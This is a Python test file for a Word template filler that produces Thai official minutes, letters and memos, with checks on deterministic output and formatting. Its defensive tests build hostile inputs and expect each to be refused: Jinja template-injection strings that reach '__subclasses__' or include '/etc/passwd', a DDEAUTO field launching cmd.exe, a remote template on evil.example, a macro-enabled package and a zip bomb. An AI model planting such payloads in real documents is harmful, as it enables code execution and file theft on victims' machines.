"""Word templates: filled, the same bytes again, and every hostile one refused in words."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime

import docx
import pytest

from tests.policy.papers.made import LETTER, MINUTES
from tiddao.kernel.apart import run_apart
from tiddao.policy.rules.official import letter_fields, minutes_fields
from tiddao.policy.rules.papers_template import LARGEST, TemplateRefused, checked_template
from tiddao.policy.rules.papers_word import FONT, UNVERIFIED, filled, standard_template

AT = datetime(2022, 11, 25, 3, 0, tzinfo=UTC)


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def template_saying(*lines: str) -> bytes:
    paper = docx.Document()
    for line in lines:
        paper.add_paragraph(line)
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def words_of(content: bytes) -> str:
    paper = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(each.text for each in paper.paragraphs), *cells]).replace("\u00a0", " ")


def refusal(content: bytes, kind: str = "minutes") -> TemplateRefused:
    with pytest.raises(TemplateRefused) as caught:
        checked_template(kind, content)  # type: ignore[arg-type]  # of the three kinds
    return caught.value


@pytest.mark.parametrize("kind", ["minutes", "letter", "memo"])
def test_standard_template_is_its_own_and_the_same_every_time(kind) -> None:
    template = standard_template(kind)
    assert template == standard_template(kind)
    checked_template(kind, template)
    styles = parts_of(template)["word/styles.xml"].decode()
    normal = re.search(r'<w:style [^>]*w:styleId="Normal".*?</w:style>', styles, re.DOTALL)
    assert normal is not None
    for setting in (f'w:cs="{FONT}"', '<w:szCs w:val="32"/>', "<w:cs/>", 'w:bidi="th-TH"'):
        assert setting in normal[0]
    assert "cstheme" not in styles.lower()
    section = docx.Document(io.BytesIO(template)).sections[0]
    assert (round(section.left_margin.cm, 2), round(section.right_margin.cm, 2)) == (3, 2)
    notes = docx.Document(io.BytesIO(template)).core_properties.comments
    assert UNVERIFIED[0] in notes
    assert len(notes) <= 255


def test_minutes_in_word_say_everything_and_are_the_same_bytes_again() -> None:
    template, fields = standard_template("minutes"), minutes_fields(MINUTES, issue=1)
    made = filled("minutes", template, fields, title="รายงาน", at=AT)
    assert made == filled("minutes", template, fields, title="รายงาน", at=AT)
    said = words_of(made)
    for words in (
        "รายงานการประชุมเชิงปฏิบัติการขับเคลื่อนนโยบายสำคัญ", "ครั้งที่ ๓/๒๕๖๖", "เมื่อวันอังคารที่ ๒๒ พฤศจิกายน ๒๕๖๕ เวลา ๐๙.๐๐ น.",
        "นักวิชาการ (แทนพัฒนาการอำเภอเทิง)", "ผู้ไม่มาประชุม", "ระเบียบวาระที่ ๒\tเรื่องเพื่อพิจารณา",
        "มติที่ประชุม\tให้เร่งรัดการเบิกจ่าย ผู้รับผิดชอบ ทุกอำเภอ ภายในวันที่ ๓๑ มีนาคม ๒๕๖๒", "เลิกประชุมเวลา ๑๖.๓๐ น.", "(นางสาวสมมุติ ห้า)",
    ):  # fmt: skip
        assert words in said
    assert "ผู้เข้าร่วมประชุม" not in said  # nobody else was there
    assert "ร่าง" not in said
    assert "{" not in said
    assert "(ร่าง)" in words_of(
        filled("minutes", template, minutes_fields(MINUTES, issue=None), title="", at=AT)
    )


def test_letters_and_memoranda_in_word() -> None:
    for kind in ("letter", "memo"):
        fields = letter_fields(LETTER, issue=1)
        said = words_of(filled(kind, standard_template(kind), fields, title="", at=AT))  # type: ignore[arg-type]  # two of the kinds
        assert "ชร ๐๐๑๙/ว ๑๒๓" in said
        assert "๒๕ พฤศจิกายน ๒๕๖๕" in said
        assert ("บันทึกข้อความ" in said) == (kind == "memo")
        assert "๒. พัฒนาการอำเภอขุนตาล" in said


def test_an_emblem_is_put_in_at_its_height() -> None:
    from PIL import Image

    picture = io.BytesIO()
    Image.new("RGB", (60, 60), "white").save(picture, "PNG")
    fields = letter_fields(LETTER, issue=1)
    made = filled(
        "memo", standard_template("memo"), fields, title="", at=AT, emblem=picture.getvalue()
    )
    document = parts_of(made)["word/document.xml"].decode()
    assert 'cy="540000"' in document  # 1.5 cm in English metric units
    again = filled(
        "memo", standard_template("memo"), fields, title="", at=AT, emblem=picture.getvalue()
    )
    assert again == made


def test_values_are_text_whatever_they_look_like() -> None:
    fields = minutes_fields(MINUTES, issue=1) | {
        "chair": "<w:p/>{{ 7*7 }} & \x0b{% raw %}",
        "venue": "a < b",
    }
    said = words_of(filled("minutes", standard_template("minutes"), fields, title="", at=AT))
    assert "<w:p/>{{ 7*7 }} & {% raw %}" in said
    assert "ณ a < b" in said


def test_an_office_template_is_filled_as_it_says() -> None:
    template = template_saying(
        "{{ heading }}",
        "{%p for item in items %}",
        "{{ loop.index }} {{ item.title }}",
        "{%p endfor %}",
        "{% if ends %}เลิก {{ ends }}{% endif %}",
    )
    said = words_of(filled("minutes", template, minutes_fields(MINUTES, issue=1), title="", at=AT))
    assert said.splitlines()[1:] == ["1 เรื่องที่ประธานแจ้งให้ทราบ", "2 เรื่องเพื่อพิจารณา", "เลิก ๑๖.๓๐ น."]


@pytest.mark.parametrize(
    ("line", "code", "place"),
    [
        ("เรื่อง {{ subjekt }}", "unknown-field", "เรื่อง {{ subjekt }}"),
        ("{{ items }}", "unknown-field", "{{ items }}"),
        ("{{ chair.title }}", "unknown-field", "{{ chair.title }}"),
        ("{% for p in heading %}x{% endfor %}", "unknown-field", "{% for p in heading %}"),
        ("{{ heading", "syntax", "{{ heading"),
        ("{% if venue %}ไม่ปิด", "syntax", ""),
        ("{{ ''.__class__ }}", "forbidden", "__class__"),
        ("{{ heading.__class__ }}", "unknown-field", "__class__"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "forbidden", "__mro__"),
        ("{{ items|length }}", "forbidden", "length"),
        ("{{ heading * 99999999 }}", "forbidden", "99999999"),
        ("{% for i in range(10**9) %}x{% endfor %}", "forbidden", "range"),
        ("{% set x = heading %}", "forbidden", "set"),
        ("{% include '/etc/passwd' %}", "forbidden", "include"),
        ("{% import 'os' as os %}", "forbidden", "import"),
        ("{% macro m() %}{% endmacro %}", "forbidden", "macro"),
        ("{{ heading.format('x') }}", "forbidden", "format"),
        ("{{ lipsum.__globals__ }}", "unknown-field", "lipsum"),
        ("{{ cycler }}", "unknown-field", "cycler"),
        ("{{ self }}", "unknown-field", "self"),
        ("{{p heading }}", "forbidden", "{{p"),
        ("{{ 7*7 }}", "forbidden", "7*7"),
    ],
)
def test_a_template_that_says_what_it_may_not_is_refused_with_its_place(line, code, place) -> None:
    refused = refusal(template_saying("{{ heading }}", line))
    assert refused.code == code
    assert place.replace("'", "") in refused.place.replace("'", "").replace("‘", "")
    assert str(refused)


def test_headers_are_read_too() -> None:
    paper = docx.Document()
    paper.add_paragraph("{{ heading }}")
    paper.sections[0].header.paragraphs[0].text = "{{ ''.__class__ }}"
    out = io.BytesIO()
    paper.save(out)
    assert refusal(out.getvalue()).code == "forbidden"


def test_properties_and_footnotes_are_not_run() -> None:
    paper = docx.Document()
    paper.add_paragraph("{{ heading }}")
    paper.core_properties.subject = "{{ 7*7 }}"
    out = io.BytesIO()
    paper.save(out)
    made = filled("minutes", out.getvalue(), minutes_fields(MINUTES, issue=1), title="", at=AT)
    assert docx.Document(io.BytesIO(made)).core_properties.subject == "{{ 7*7 }}"


def test_a_template_whose_parts_do_not_close_is_refused_when_filled() -> None:
    paper = docx.Document()
    table = paper.add_table(1, 1)
    table.cell(0, 0).text = "{% for item in items %}{{ item.title }}"
    paper.add_paragraph("{% endfor %}")
    out = io.BytesIO()
    paper.save(out)
    with pytest.raises(TemplateRefused) as caught:
        filled("minutes", out.getvalue(), minutes_fields(MINUTES, issue=1), title="", at=AT)
    assert caught.value.code == "does-not-render"


def with_part(name: str, content: bytes) -> bytes:
    return packed(parts_of(standard_template("minutes")) | {name: content})


def with_relation(line: str) -> bytes:
    parts = parts_of(standard_template("minutes"))
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", f"{line}</Relationships>".encode())
    return packed(parts)


_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile() -> dict[str, bytes]:
    parts = parts_of(standard_template("minutes"))
    macro = parts | {
        "[Content_Types].xml": parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    }
    field = parts["word/document.xml"].replace(
        b"<w:body>",
        b'<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
    )
    entity = b'<!DOCTYPE a [<!ENTITY b "c">]>' + parts["word/document.xml"].split(b"?>", 1)[1]
    return {
        "not-word": b"%PDF-1.7 not word at all",
        "not-word ": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "not-word  ": packed({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}),
        "damaged": standard_template("minutes")[:9000],
        "bomb": with_part("word/media/a.bin", b"\0" * (60 * 1024 * 1024)),
        "too-large": b"PK\x03\x04" + b"\0" * LARGEST,
        "macros": packed(macro),
        "macros ": with_part("word/vbaProject.bin", b"x"),
        "embedded": with_part("word/embeddings/oleObject1.bin", b"x"),
        "embedded ": with_relation(f'<Relationship Id="r99" Type="{_TYPE}/oleObject" Target="a"/>'),
        "external": with_relation(
            f'<Relationship Id="r99" Type="{_TYPE}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
        ),
        "active-field": packed(parts | {"word/document.xml": field}),
        "entities": packed(parts | {"word/document.xml": entity}),
        "no-fields": template_saying("ไม่มีช่องใดเลย"),
    }


@pytest.mark.parametrize("sort", hostile())
def test_hostile_files_are_refused_in_words(sort) -> None:
    refused = refusal(hostile()[sort])
    assert refused.code == sort.strip()
    assert re.search("[ก-ฮ]", str(refused))


def test_a_refusal_comes_back_from_the_bounded_process() -> None:
    with pytest.raises(TemplateRefused) as caught:
        run_apart(checked_template, "minutes", template_saying("{{ nothing }}"))
    assert caught.value.code == "unknown-field"
    assert caught.value.place == "{{ nothing }}"
